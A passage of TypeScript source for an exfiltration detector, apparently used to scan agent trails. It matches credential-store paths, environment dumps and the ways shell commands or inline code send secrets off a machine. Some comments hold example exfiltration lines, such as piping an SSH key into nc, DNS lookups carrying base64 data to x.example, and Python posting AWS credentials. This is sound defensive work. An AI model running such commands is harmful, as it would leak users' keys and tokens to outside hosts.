// What the exfiltration rule (risk-rules.ts, `sends_local_secrets`) sees: which local files are
// credential stores, which commands dump the environment, and the ways a command sends either off
// the machine (curl -d @file, -F f=@file, -T, wget --post-file, httpie @file, Invoke-WebRequest
// -InFile/-Body, scp/rsync/rclone/aws s3 cp to a remote, a stdin redirect into nc/ssh/curl, a
// redirect onto /dev/tcp, $(…) in a request, a secret variable in a URL or body, inline code that
// reads a key and posts it), and the ways a command hands them out without sending them itself (a
// file server over ~ or /, a credential store mounted into a stranger's image, git add of one). A
// trail whose "fix" does this leaks the following agent's secrets to whoever wrote it. Pure: no I/O.
// Changing what this file catches or flags? Bump CONTENT_RULES_VERSION (content-rules.ts): stored
// trails are re-checked with the new rules at the next start.
import { baseName, has, inlineCode, isFetch, isInterpreterName, type View, viewOf } from "./risk-view.ts";
import { allCommands, type SimpleCommand, type Word } from "./shell.ts";

// --- Credential stores ---------------------------------------------------------------------------

const ENV_FILE = "an .env file's secrets";

/** Credential stores by what they hold; each tested on one path (forward slashes), anchored at its end. */
const CREDENTIAL_STORES: readonly { re: RegExp; what: string }[] = [
  // ~/.ssh itself or a file in it other than public keys, known_hosts, authorized_keys and config
  { re: /(^|\/)\.ssh\/?$/, what: "SSH private keys" },
  {
    re: /(^|\/)\.ssh\/(?!(known_hosts|authorized_keys2?|config|environment|rc)(\.old)?$)(?![^/]*\.pub$)[^/]+$/,
    what: "an SSH private key",
  },
  { re: /(^|\/)id_(rsa|dsa|ecdsa|ed25519)(_sk)?$/, what: "an SSH private key" },
  { re: /(^|\/)\.aws(\/credentials)?\/?$/, what: "AWS credentials" },
  { re: /(^|\/)[._]netrc$/, what: "the .netrc passwords" },
  { re: /(^|\/)\.docker(\/config\.json)?\/?$/, what: "Docker registry credentials" },
  { re: /(^|\/)\.kube(\/config)?\/?$/, what: "the Kubernetes credentials (kubeconfig)" },
  { re: /(^|\/)\.(npmrc|pypirc)$/, what: "package registry tokens" },
  { re: /(^|\/)\.git-credentials$|(^|\/)gh\/hosts\.ya?ml$/, what: "git host tokens" },
  { re: /(^|\/)\.env(rc)?$|(^|\/)\.env\.(?!(example|sample|template|dist|defaults?)$)[\w.-]+$/i, what: ENV_FILE },
  { re: /(^|\/)etc\/g?shadow$/, what: "the system password hashes" },
  { re: /(^|\/)proc\/(self|\d+)\/environ$/, what: "the process environment" },
  { re: /(^|\/)\.pgpass$|(^|\/)\.vault-token$|(^|\/)credentials(\.json|\.toml|\.tfrc\.json)?$/, what: "stored credentials" },
  { re: /(^|\/)gcloud\/(application_default_credentials\.json|credentials\.db|access_tokens\.db)$/, what: "Google Cloud credentials" },
  { re: /(^|\/)\.gnupg(\/(private-keys-v1\.d(\/[^/]+)?|secring\.gpg))?\/?$/, what: "GnuPG private keys" },
];

/** Characters around a path inside an argument: `@file`, `name=@file`, `<file`, `FILE:file`, quotes, `(…)`. */
const PATH_SEPARATORS = /(?:[\s=@<>,;()'"|&`{}[\]]|(?<!\$env):)+/i;
/** A URL names a remote file, not a local one (`https://x.example/.env` is a download). */
const URL_LIKE = /^[a-z][a-z0-9+.-]*:\/\//i;

/** The stores a glob is tried against (`~/.ss?/id_*`, `~/.aws/cred*`, `/etc/sha*`), home forms read as `~`. */
const KNOWN_STORES = [
  ...["~/.ssh", "~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.ssh/id_ecdsa", "~/.ssh/id_dsa", "~/.aws", "~/.aws/credentials"],
  ...["~/.netrc", "~/.docker/config.json", "~/.kube/config", "~/.npmrc", "~/.pypirc", "~/.git-credentials"],
  ...["~/.config/gh/hosts.yml", "~/.pgpass", "~/.vault-token", ".env", "/etc/shadow", "/proc/self/environ"],
];
const HOME_PREFIX =
  /^(~|\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE|\/home\/[^/]+|\/Users\/[^/]+|\/root|[a-z]:\/Users\/[^/]+)(?=\/)/i;

/** What the credential store a path names holds ("SSH private keys", "AWS credentials"), or null. */
export function credentialStore(path: string): string | null {
  // `\` as `/`, `/./` and `//` as `/`: `~/.ssh/./deploy` is `~/.ssh/deploy`
  const p = path
    .replace(/\\/g, "/")
    .replace(/\/\.(?=\/)/g, "")
    .replace(/\/{2,}/g, "/");
  for (const { re, what } of CREDENTIAL_STORES) if (re.test(p)) return what;
  return /[*?[]/.test(p) ? globbedStore(p) : null;
}

/** A glob that matches a known credential store: what it holds, or null. Short globs only (their regex backtracks). */
function globbedStore(glob: string): string | null {
  if (glob.length > 100 || (glob.match(/[*?[]/g) ?? []).length > 6) return null;
  const segment = (part: string) =>
    // a segment that starts with a wildcard matches no dotfile (`~/*` is not `~/.ssh`), as in a shell
    (/^[*?[]/.test(part) ? "(?!\\.)" : "") +
    part.replace(/\[[^\]/]+\]|[*?]|[^*?]/g, (p) =>
      p === "*" ? "[^/]*" : p === "?" || p.length > 1 ? "[^/]" : p.replace(/[.*+?^${}()|[\]\\/]/, "\\$&"),
    );
  const re = new RegExp(`^${glob.replace(HOME_PREFIX, "~").split("/").map(segment).join("\\/")}$`);
  const hit = KNOWN_STORES.find((k) => re.test(k));
  return hit === undefined ? null : credentialStore(hit);
}

/** The first credential store an argument names (`@~/.ssh/id_rsa`, `f=@"$HOME/.aws/credentials"`, `FILE:/etc/shadow`), or null. */
export function namedCredential(text: string): { path: string; what: string } | null {
  if (URL_LIKE.test(text)) return null;
  // a Windows drive (`C:\Users\me\.aws\credentials`) keeps its path whole
  for (const part of text.replace(/\b([a-z]):[\\/]/gi, "$1/").split(PATH_SEPARATORS)) {
    if (part.length < 4 || URL_LIKE.test(part)) continue;
    const what = credentialStore(part);
    if (what) return { path: part, what };
  }
  return null;
}

// --- What a command prints --------------------------------------------------------------------

/** `$…SECRET…`, `${…TOKEN…}`, `$env:…PASSWORD…` in what echo prints. */
const SECRET_VARIABLE_ECHOED =
  /\$\{?(?:env:)?([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY)[A-Za-z0-9_]*)\}?/i;

/** Programs that print (or encode, pack, filter) the files they are given: their output is the file. */
const READERS = new Set([
  ...["cat", "type", "get-content", "gc", "less", "more", "head", "tail", "bat", "tac", "nl", "paste", "rev", "strings", "dd"],
  ...["base64", "base32", "basenc", "xxd", "od", "hexdump", "uuencode", "openssl", "gpg", "certutil"],
  ...["tar", "zip", "7z", "gzip", "bzip2", "xz", "zstd", "lz4", "cpio"],
  ...["grep", "egrep", "rg", "sed", "awk", "gawk", "cut", "tr", "sort", "uniq", "jq", "yq", "tee"],
]);

/** Does this command print the whole environment (`env`, `printenv`, `set`, `export -p`, `Get-ChildItem env:`)? */
export function dumpsEnvironment(v: View): boolean {
  const n = v.name;
  return (
    ((n === "env" || n === "printenv") && v.a.every((x) => x.startsWith("-"))) ||
    (n === "set" && v.a.length === 0) ||
    ((n === "export" || n === "declare" || n === "typeset") && v.a.length === 1 && /^-[px]+$/.test(v.a[0]!)) ||
    (/^(get-childitem|gci|dir|ls)$/.test(n) && v.a.some((x) => /^env:\\?$/i.test(x))) ||
    v.a.some((x) => /^\[(system\.)?environment\]::getenvironmentvariables\(\)$/i.test(x))
  );
}

/** What secret a command's output holds: a credential store it reads, or the environment; null when none. */
export function printedSecret(v: View, withTokens = true, vars: ReadonlyMap<string, string> = NO_VARS): string | null {
  if (dumpsEnvironment(v)) return "the environment";
  if (/^(echo|write-output|write-host|printf)$/.test(v.name)) {
    const variable = v.a.map((x) => SECRET_VARIABLE_ECHOED.exec(x)).find((m) => m !== null);
    return variable ? `$${variable[1]}` : null;
  }
  if (v.name === "security" && /^find-(generic|internet)-password$/.test(v.a[0] ?? "") && has(v, "-w", "-g")) return "a keychain password";
  const token = withTokens ? printedToken(v) : null;
  if (token) return token;
  // python -c 'print(dict(os.environ))', node -p 'JSON.stringify(process.env)'
  const code = isInterpreterName(v.name) ? inlineCode(v) : null;
  if (code !== null && (CODE_READS_SECRETS.test(code) || /^\s*process\.env\s*$/.test(code))) return "local secrets read by inline code";
  if (!READERS.has(v.name)) return null;
  for (const x of v.a) {
    // `k=~/.ssh/id_rsa; cat $k | nc h p`: the path a variable the script set holds
    const found = namedCredential(expand(x, vars));
    if (found) return `${found.what} (${found.path})`;
  }
  return null;
}

/**
 * The token or credentials a CLI prints on request (`gh auth token`, `aws configure export-credentials`,
 * `gcloud auth print-access-token`, `git credential fill`, `npm config get …:_authToken`,
 * `kubectl get secret … -o yaml`), or null. Flagged where such output goes into a network client,
 * a socket or a file sent later; a substitution in a request to the service itself is its normal use
 * and is not read here.
 */
function printedToken(v: View): string | null {
  const j = v.a.join(" ");
  if (v.name === "gh" && /^auth token\b/.test(j)) return "the GitHub CLI's token";
  if (
    v.name === "aws" &&
    /^(configure (export-credentials|get \S*(secret|key|token)\S*)|sts get-session-token|ecr get-login-password)\b/i.test(j)
  )
    return "AWS credentials";
  if (v.name === "gcloud" && /\bauth (application-default )?print-(access|identity)-token\b/.test(j)) return "a Google Cloud token";
  if (v.name === "az" && /^account get-access-token\b/.test(j)) return "an Azure token";
  if (v.name === "git" && /^credential (fill|get)\b|^config --get credential\./.test(j)) return "stored git credentials";
  if ((v.name === "npm" || v.name === "yarn" || v.name === "pnpm") && /^config get \S*_auth(token)?\b/i.test(j))
    return "a package registry token";
  if (v.name === "kubectl" && /^get secrets?\b/.test(j) && /-o\s*(yaml|json)|--output[= ](yaml|json)|jsonpath/.test(j))
    return "Kubernetes secrets";
  if (v.name === "heroku" && /^auth:token\b/.test(j)) return "a Heroku token";
  if (v.name === "op" && /^(read|item get)\b/.test(j)) return "a 1Password secret";
  return null;
}

/**
 * A bare `env` (options only): it prints the environment. The command views skip `env` as a
 * wrapper (`env FOO=1 cmd` runs cmd), so a bare one has no view and is read from its words.
 */
export function isBareEnv(cmd: SimpleCommand): boolean {
  const words = cmd.words.map((w) => w.text).filter((t) => !/^[A-Za-z_][A-Za-z0-9_]*=/.test(t));
  return words.length > 0 && baseName(words[0]!) === "env" && words.slice(1).every((t) => t.startsWith("-"));
}

/** What secret a word's command substitutions print (`"$(cat ~/.aws/credentials)"`, `$(env)`, `(Get-Content ~/.netrc)`), or null. */
function substitutedSecret(w: Word): string | null {
  for (const s of w.subs)
    for (const c of allCommands(s)) {
      if (isBareEnv(c)) return "the environment";
      // `$(< ~/.ssh/id_rsa)`: bash reads the file
      const read = c.words.length === 0 ? c.redirects.find((r) => r.op === "<" && credentialStore(r.target)) : undefined;
      if (read) return `${credentialStore(read.target)} (${read.target})`;
      const v = viewOf(c);
      // a CLI's own token in a request is how it is used (`-H "Authorization: token $(gh auth token)"`): not read here
      const found = v && printedSecret(v, false);
      if (found) return found;
    }
  return null;
}

const NO_VARS: ReadonlyMap<string, string> = new Map();

/** The text with each `$NAME` / `${NAME}` assigned earlier in the script replaced by its value (one level: `F=~/.ssh/id_rsa; curl -d @$F …`). */
function expand(text: string, vars: ReadonlyMap<string, string>): string {
  if (vars.size === 0 || !text.includes("$")) return text;
  return text.replace(/\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?/g, (m, name: string) => vars.get(name) ?? m);
}

/** What secret a variable the word uses was assigned earlier in the script (`K=$(cat ~/.ssh/id_rsa); curl -d "$K" …`), or null. */
function assignedSecret(text: string, vars: ReadonlyMap<string, string>): string | null {
  if (vars.size === 0 || !text.includes("$")) return null;
  for (const m of text.matchAll(/\$\{?([A-Za-z_][A-Za-z0-9_]*)/g)) {
    const value = vars.get(m[1]!);
    if (value === undefined || (!value.includes("$(") && !value.includes("`"))) continue;
    if (/\$\(\s*(env|printenv)\s*(\||\))/.test(value)) return "the environment";
    const found = namedCredential(value);
    if (found) return `${found.what} (${found.path})`;
  }
  return null;
}

// --- Network clients ----------------------------------------------------------------------------

const SOCKET_CLIENTS = new Set(["nc", "ncat", "netcat", "socat", "telnet", "ssh", "sftp", "ftp", "lftp", "tftp", "smbclient"]);
/** Name lookups carry what is in the name to the name server (`dig $(… | base64).x.example`). */
const RESOLVERS = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6"]);
const MAILERS = new Set(["mail", "mailx", "sendmail", "mutt"]);
const POWERSHELL_WEB = new Set(["iwr", "irm", "invoke-webrequest", "invoke-restmethod"]);

/** Does this command send what it reads on stdin, or its arguments, over the network? */
export const isNetworkClient = (v: View | null) =>
  v !== null &&
  (isFetch(v) ||
    SOCKET_CLIENTS.has(v.name) ||
    MAILERS.has(v.name) ||
    RESOLVERS.has(v.name) ||
    (v.name === "openssl" && has(v, "s_client")) ||
    (v.name === "gh" && has(v, "gist", "release")) ||
    // `… | xargs -I{} curl -F f=@{} …`: xargs runs the client with what it reads
    (v.name === "xargs" && v.a.some((x) => FETCHER_OR_SOCKET.test(baseName(x)))));
const FETCHER_OR_SOCKET = /^(curl|wget|http|https|xh|nc|ncat|netcat|socat|scp|rsync|sftp|ftp)$/;

/** Programs that copy local files to a remote place named in their arguments. */
const COPIERS: Record<string, { valueOptions: Set<string> } | undefined> = {
  scp: { valueOptions: new Set(["-i", "-F", "-o", "-P", "-S", "-c", "-l", "-J", "-D", "-X"]) },
  rsync: { valueOptions: new Set(["-e", "--rsh", "--exclude", "--include", "-f", "--filter", "--password-file", "--port", "-T"]) },
  rclone: { valueOptions: new Set(["--config", "--exclude", "--include", "--filter"]) },
  aws: { valueOptions: new Set(["--profile", "--region", "--endpoint-url", "--exclude", "--include", "--sse-kms-key-id"]) },
  gsutil: { valueOptions: new Set(["-h", "-o", "-u"]) },
  azcopy: { valueOptions: new Set([]) },
};
/** `host:path`, `user@host:`, `s3://…`, `remote:path`: a place on another machine (a Windows drive `C:\` is not). */
const REMOTE_PLACE = /^(?:[\w.-]+@)?[\w.-]{2,}:(?!\\)|^[a-z][a-z0-9+.-]*:\/\//i;

// curl's options whose value names a file to send: `@file` for the data and header ones, `name=@file` / `name=<file` for -F.
const CURL_AT_FILE = new Set(["-d", "--data", "--data-binary", "--data-ascii", "--json", "-H", "--header"]);
const CURL_URLENCODE = new Set(["--data-urlencode"]);
const CURL_FORM = new Set(["-F", "--form"]);
const CURL_UPLOAD = new Set(["-T", "--upload-file"]);
const CURL_HEADER_VALUE = new Set(["-H", "--header", "-u", "--user", "--oauth2-bearer", "--proxy-user", "-U"]);

/** The files a curl command sends (`-d @f`, `--data-urlencode n@f`, `-F n=@f`, `-F n=<f`, `-T f`, `-H @f`; bundled `-d@f` too). */
function curlSentFiles(v: View): string[] {
  const out: string[] = [];
  const a = v.a;
  for (let i = 0; i < a.length; i++) {
    const x = a[i]!;
    let opt: string;
    let value: string | undefined;
    const eq = /^(--[a-z-]+)=(.*)$/s.exec(x);
    // short options bundle, the last one taking a value, there or in the next word: -sSd @f, -sd@f
    const bundled = /^-[a-zA-Z0-9#:]*?([dFTH])(.*)$/s.exec(x);
    if (eq) [opt, value] = [eq[1]!, eq[2]!];
    else if (bundled && !x.startsWith("--")) [opt, value] = [`-${bundled[1]!}`, bundled[2] || a[i + 1]];
    else [opt, value] = [x, a[i + 1]];
    if (value === undefined) continue;
    if (CURL_AT_FILE.has(opt) && value.startsWith("@")) out.push(value.slice(1));
    else if (CURL_URLENCODE.has(opt)) {
      const at = /^[^=@]*@(.+)$/s.exec(value);
      if (at) out.push(at[1]!);
    } else if (CURL_FORM.has(opt)) {
      const file = /^[^=]*=[@<]([^;]+)/s.exec(value);
      if (file) out.push(file[1]!);
    } else if (CURL_UPLOAD.has(opt)) out.push(value);
  }
  return out;
}

/** The files a wget, httpie or PowerShell web command sends (`--post-file f`, `--body-file=f`, `@f`, `field@f`, `-InFile f`). */
function otherSentFiles(v: View): string[] {
  const n = v.name;
  if (n !== "wget" && n !== "http" && n !== "https" && n !== "xh" && !POWERSHELL_WEB.has(n)) return [];
  const a = v.a;
  const out: string[] = [];
  const options = v.name === "wget" ? /^--(post-file|body-file)(=(.*))?$/s : POWERSHELL_WEB.has(v.name) ? /^-infile()(:(.*))?$/is : null;
  for (let i = 0; i < a.length; i++) {
    const x = a[i]!;
    if (options) {
      const m = options.exec(x);
      const value = m ? (m[2] !== undefined ? m[3] : a[i + 1]) : undefined;
      if (value !== undefined) out.push(value);
    } else if ((v.name === "http" || v.name === "https" || v.name === "xh") && !x.startsWith("-")) {
      // `@file` (the body), `field@file` (a form upload), `field=@file`, `field:=@file`
      const m = /^[^=:@\s/]*(?:=|:=)?@(.+)$/s.exec(x);
      if (m) out.push(m[1]!);
    }
  }
  return out;
}

/** The host a request goes to: of its first URL, else of its first argument that reads as `host.tld/…`; lower-case, or null. */
function hostOf(v: View): string | null {
  const HOST =
    /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?([a-z0-9][a-z0-9.-]*\.[a-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(?::\d+)?(?:[/?#]|$)/i;
  // a variable label (`https://$AWS_SECRET_ACCESS_KEY.x.example`) is not the host: it is what is sent
  const args = v.a.map((x) => x.replace(/\$\{?[A-Za-z_][A-Za-z0-9_]*\}?\./g, ""));
  const url = args.find((x) => URL_LIKE.test(x)) ?? args.find((x) => !x.startsWith("-") && !x.includes("=") && HOST.test(x));
  const m = url === undefined ? null : HOST.exec(url);
  return m ? m[1]!.toLowerCase() : null;
}

// A variable whose name says it holds a secret (`$AWS_SECRET_ACCESS_KEY`, `${OPENAI_API_KEY}`, `$env:GH_TOKEN`, `%NPM_TOKEN%`).
const SECRET_VARIABLE_REF =
  /\$\{?(?:env:)?([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Za-z0-9_]*)\}?|%([A-Za-z0-9_]*(?:SECRET|TOKEN|PASSWORD|API_?KEY|ACCESS_KEY)[A-Za-z0-9_]*)%/gi;
// The last word of a variable's name saying it holds a place, not a secret (`$TOKEN_SERVER`, `$SECRET_HOST`,
// `$VAULT_TOKEN_ENDPOINT`): a host name in a name looked up is no DNS exfiltration (session 18).
const PLACE_WORD = /(?:^|_)(?:SERVER|SERVERS|HOST|HOSTNAME|HOSTS|DOMAIN|ZONE|URL|URI|ENDPOINT|ADDR|ADDRESS|SUFFIX|PREFIX|REGION)$/i;
const namesAPlace = (name: string) => PLACE_WORD.test(name);
/** Words of a variable name that say what it is, not whose it is. */
const GENERIC_NAME_WORD =
  /^(api|key|keys|token|tokens|secret|secrets|access|private|auth|client|app|password|passwd|pass|pat|bot|personal|the|env|user|service|account|session|credential|credentials|bearer|refresh|write|read|prod|dev|test|job|build|deploy|registry|webhook|url)$/;

/** Services a secret variable's name often names, with the words of their API hosts. */
const PROVIDER_HOSTS: Record<string, readonly string[]> = {
  aws: ["amazonaws", "aws"],
  openai: ["openai", "azure"],
  anthropic: ["anthropic"],
  claude: ["anthropic"],
  github: ["github"],
  gh: ["github"],
  gitlab: ["gitlab"],
  npm: ["npmjs", "npm"],
  pypi: ["pypi", "python.org"],
  slack: ["slack"],
  stripe: ["stripe"],
  google: ["google", "gstatic"],
  gcp: ["google"],
  gemini: ["google"],
  azure: ["azure", "windows.net", "microsoft"],
  huggingface: ["huggingface", "hf.co"],
  hf: ["huggingface", "hf.co"],
  docker: ["docker"],
  dockerhub: ["docker"],
  cloudflare: ["cloudflare"],
  digitalocean: ["digitalocean"],
  heroku: ["heroku"],
  vercel: ["vercel"],
  netlify: ["netlify"],
  sentry: ["sentry"],
  datadog: ["datadog"],
  twilio: ["twilio"],
  sendgrid: ["sendgrid"],
  telegram: ["telegram"],
  discord: ["discord"],
  mistral: ["mistral"],
  groq: ["groq"],
  cohere: ["cohere"],
  replicate: ["replicate"],
  supabase: ["supabase"],
  firebase: ["firebase", "google"],
  codecov: ["codecov"],
  snyk: ["snyk"],
  jira: ["atlassian", "jira"],
  atlassian: ["atlassian"],
};

/**
 * A secret variable a request puts in its URL or body. A service takes its own token that way
 * (`?token=$SLACK_TOKEN` to slack.com), so a name whose service is the host is not flagged; a
 * name of a known service sent to another host is high (`?k=$OPENAI_API_KEY` to x.example);
 * any other name (`$TOKEN`, `$TRIGGER_TOKEN`) is medium: the reader checks the host. In a header
 * or -u, where tokens go, only a named service's token sent to another host is flagged (high:
 * `-H "Authorization: Bearer $OPENAI_API_KEY" https://x.example`). A local host is never flagged.
 */
function secretVariableSent(v: View): { level: "high" | "medium"; detail: string } | null {
  if (!isFetch(v) && !POWERSHELL_WEB.has(v.name)) return null;
  const a = v.a;
  const host = hostOf(v);
  // the machine itself: nothing leaves it
  if (host !== null && LOCAL_HOST.test(host)) return null;
  for (let i = 0; i < a.length; i++) {
    let x = a[i]!;
    let header = false;
    if (CURL_HEADER_VALUE.has(x) || /^-(headers|credential|token|authentication)$/i.test(x)) {
      header = true;
      x = a[++i] ?? "";
    } else if (/^--(header|user|oauth2-bearer)=/.test(x)) header = true;
    else if (x.startsWith("-") && !x.includes("$") && !x.includes("%")) continue;
    SECRET_VARIABLE_REF.lastIndex = 0;
    for (const m of x.matchAll(SECRET_VARIABLE_REF)) {
      const name = m[1] ?? m[2]!;
      const words = name.toLowerCase().split(/_+/);
      const services = words.filter((w) => Object.hasOwn(PROVIDER_HOSTS, w));
      const hostWords = services.flatMap((w) => PROVIDER_HOSTS[w]!);
      const named = services.length > 0 ? hostWords : words.filter((w) => w.length >= 3 && !GENERIC_NAME_WORD.test(w));
      if (host && named.some((w) => host.includes(w))) continue;
      const where = host ? `to ${host}` : "to a host the command does not name";
      const part = header ? "a request header" : "a URL or request body";
      if (services.length > 0 && host) return { level: "high", detail: `sends $${name} in ${part} ${where}, not to the service it names` };
      // a header is where a token goes: only a named service's token sent elsewhere is flagged there
      if (!header) return { level: "medium", detail: `sends $${name} in ${part} ${where}: check the host is the service it belongs to` };
    }
  }
  return null;
}
const LOCAL_HOST = /^(localhost|127\.\d+\.\d+\.\d+|0\.0\.0\.0)$/;

// Inline code (python -c, node -e, a patch's added line) that sends: an HTTP or socket call that posts (Go's http.Post, a POST request, net.Dial too).
const CODE_SENDS =
  /require\(\s*['"](node:)?https?['"]\s*\)|requests\.(post|put|patch)\s*\(|urllib\.request\.(urlopen|Request)\s*\(|urlopen\s*\(|http\.client|https?\.request\s*\(|\bfetch\s*\(|\.sendall?\s*\(|XMLHttpRequest|Net::HTTP|LWP::UserAgent|IO::Socket|HTTP::Tiny|httpx\.(post|put)|aiohttp|axios\.(post|put)|socket\.(socket|create_connection)\s*\(|\bhttp\.Post(Form)?\s*\(|\bhttp\.NewRequest(WithContext)?\s*\([^)]{0,40}?("POST"|"PUT"|MethodPost|MethodPut)|\bnet\.Dial(Timeout)?\s*\(/;
// …and reads a credential store or the whole environment (a path joined from its parts too: path.join(home, '.aws', 'credentials'))
const CODE_READS_SECRETS =
  /\.ssh[/\\](?!known_hosts|authorized_keys|config\b)[\w.-]*\b(?<!\.pub)|\bid_(rsa|dsa|ecdsa|ed25519)\b(?!\.pub)|\.aws[/\\]credentials|[._]netrc\b|\.docker[/\\]config\.json|\.kube[/\\]config\b|\.npmrc\b|\.pypirc\b|\.git-credentials\b|gh[/\\]hosts\.ya?ml|\/etc\/g?shadow\b|\/proc\/self\/environ|['"/]\.env(\.(?!example|sample|template)\w+)?['"]|\b(dict|str|repr|json\.dumps)\(\s*(dict\()?os\.environ\s*\)|JSON\.stringify\(\s*process\.env\s*\)|\bENV\.to_h\b|['"]\.aws['"]\s*,\s*['"]credentials['"]|['"]\.kube['"]\s*,\s*['"]config['"]|['"]\.docker['"]\s*,\s*['"]config\.json['"]/;

/** A line of source that sends data over the network and reads a credential store or the environment (bounded: linear time). */
export const CODE_SENDS_SECRETS_LINE = new RegExp(
  `^(?=[^\\n]{0,2000}?(?:${CODE_SENDS.source}))(?=[^\\n]{0,2000}?(?:${CODE_READS_SECRETS.source}))`,
  "m",
);

/** Does this source text (inline code, or a patch's added line) read a credential store or the environment and send data over the network? */
export function codeSendsSecrets(code: string): boolean {
  return CODE_SENDS.test(code) && CODE_READS_SECRETS.test(code);
}

// A name given a value on a line of code: `key = …`, `const key = …`, `key := …` (Go), `my $key = …`,
// `with open(…) as f:`, `data, err := …` (its first name).
const ASSIGNED_NAME =
  /^\s*(?:(?:const|let|var|my|local|final|val|auto)\s+)?\$?([A-Za-z_]\w{0,63})(?:\s*:\s*[\w.[\]<>]{1,40})?(?:\s*,\s*[A-Za-z_]\w{0,63})*\s*(?::=|=(?![=>]))|\bas\s+([A-Za-z_]\w{0,63})\s*:/;
/** How many added lines a call may span (`fetch(url, {` ⏎ `body: key,` ⏎ `})`). */
const CALL_LINES = 8;

/**
 * The added lines of a patch that read a credential store or the whole environment into a name on
 * one line and send it over the network on a later one (`key = open(os.path.expanduser(
 * '~/.aws/credentials')).read()` … `requests.post(url, data=key)`), as codeSendsSecrets reads one
 * line: what is read, and the line that sends it; null when none. A name derived from a read one
 * (`data = base64.b64encode(key)`, `f` of `with open(…) as f`) is read too. Only the name itself
 * counts: one field taken out of it (`env["GITHUB_TOKEN"]`, `config.get("TOKEN")`) is how a .env's
 * token is used with its own API, and is not flagged. Bounded: at most 2,000 lines of 2,000 characters.
 */
export function codeSendsSecretsAcrossLines(lines: readonly string[]): { read: string; send: string } | null {
  const tainted = new Map<string, string>(); // name → the line that read it
  const n = Math.min(lines.length, 2000);
  for (let i = 0; i < n; i++) {
    const line = lines[i]!.length > 2000 ? lines[i]!.slice(0, 2000) : lines[i]!;
    if (tainted.size > 0 && CODE_SENDS.test(line)) {
      // the call with the lines it goes on over, while its brackets stay open
      let call = line;
      for (let depth = bracketDepth(line), k = i + 1; depth > 0 && k < Math.min(n, i + CALL_LINES); k++) {
        call += `\n${lines[k]!.slice(0, 2000)}`;
        depth += bracketDepth(lines[k]!);
      }
      for (const [name, read] of tainted) if (usesWhole(call, name)) return { read, send: line.trim() };
    }
    const m = ASSIGNED_NAME.exec(line);
    const name = m ? (m[1] ?? m[2]!) : null;
    if (name === null) continue;
    const value = line.slice(m!.index + m![0].length);
    if (CODE_READS_SECRETS.test(m![2] !== undefined ? line : value)) tainted.set(name, line.trim());
    else {
      const from = [...tainted].find(([t]) => usesWhole(value, t));
      if (from) tainted.set(name, from[1]);
      else tainted.delete(name); // given another value
    }
    if (tainted.size > 20) break;
  }
  return null;
}

/** Opened minus closed brackets on a line. */
function bracketDepth(line: string): number {
  let d = 0;
  for (const c of line)
    if (c === "(" || c === "{" || c === "[") d++;
    else if (c === ")" || c === "}" || c === "]") d--;
  return d;
}

/** Does the code use this name as a whole value (not one field of it: `name[…]`, `name.get(…)`, `name.TOKEN`)? */
function usesWhole(code: string, name: string): boolean {
  let re = WHOLE_USE.get(name);
  if (re === undefined) {
    if (WHOLE_USE.size > 500) WHOLE_USE.clear();
    re = wholeUse(name);
    WHOLE_USE.set(name, re);
  }
  return re.test(code);
}
const WHOLE_USE = new Map<string, RegExp>();
const wholeUse = (name: string) =>
  new RegExp(
    `(?<![\\w.$])\\$?${name}\\b(?!\\s*(?:\\[|\\.get\\b|\\.get\\(|\\.(?!read|encode|decode|strip|trim|toString|String|hex|bytes)[A-Za-z_]))`,
  );

// --- Secrets staged in a file, then sent ---------------------------------------------------------

export const basenameOf = (p: string) => p.replace(/\\/g, "/").replace(/\/+$/, "").replace(/^.*\//, "");

/**
 * Files this command writes a credential store or the environment into, to be sent by a later
 * command (`cp ~/.ssh/id_rsa /tmp/k`, `env > /tmp/e`, `base64 ~/.aws/credentials > c.txt`,
 * `tar czf /tmp/k.tgz ~/.ssh`, `zip k.zip ~/.ssh/id_rsa`); what each holds.
 */
export function stagedSecrets(v: View): { file: string; what: string }[] {
  const out: { file: string; what: string }[] = [];
  const n = v.name;
  const printed = printedSecret(v);
  if (printed)
    for (const r of v.cmd.redirects)
      if (/^\d?>>?$/.test(r.op) && r.target && !r.target.startsWith("/dev/")) out.push({ file: r.target, what: printed });
  const positionals = v.a.filter((x) => !x.startsWith("-"));
  const named = (xs: string[]) => xs.map((x) => namedCredential(x)).find((x) => x !== null) ?? null;
  if ((n === "cp" || n === "mv" || n === "install" || n === "ditto") && positionals.length >= 2) {
    const found = named(positionals.slice(0, -1));
    // into a directory the copy keeps its name: both the destination and that name count
    if (found)
      out.push({ file: positionals[positionals.length - 1]!, what: found.what }, { file: basenameOf(found.path), what: found.what });
  } else if (n === "tar") {
    const k = v.a.findIndex((x) => /^-?[a-zA-Z]*f$/.test(x) && !x.startsWith("--"));
    const archive = /^--file=(.+)$/.exec(v.a.find((x) => x.startsWith("--file=")) ?? "")?.[1] ?? (k >= 0 ? v.a[k + 1] : undefined);
    const found = named(v.a.filter((x) => x !== archive));
    if (archive && archive !== "-" && found) out.push({ file: archive, what: found.what });
  } else if ((n === "zip" || n === "7z") && positionals.length >= 2) {
    const rest = n === "7z" ? positionals.slice(1) : positionals;
    const found = named(rest.slice(1));
    if (found) out.push({ file: rest[0]!, what: found.what });
  } else if (printed && READERS.has(n)) {
    const k = v.a.findIndex((x) => /^(-o|--output|-out)$/.test(x));
    if (k >= 0 && v.a[k + 1]) out.push({ file: v.a[k + 1]!, what: printed });
  }
  return out;
}

/** Local files this command sends over the network (request files, a copy to a remote place, stdin of a client, gh uploads, a transfer's put). */
export function sentFiles(v: View): string[] {
  const n = v.name;
  const out = n === "curl" ? curlSentFiles(v) : otherSentFiles(v);
  const copier = COPIERS[n];
  if (copier) {
    const places: string[] = [];
    for (let i = 0; i < v.a.length; i++) {
      if (copier.valueOptions.has(v.a[i]!)) i++;
      else if (!v.a[i]!.startsWith("-")) places.push(v.a[i]!);
    }
    if (places.length >= 2 && REMOTE_PLACE.test(places[places.length - 1]!))
      out.push(...places.slice(0, -1).filter((p) => !REMOTE_PLACE.test(p)));
  }
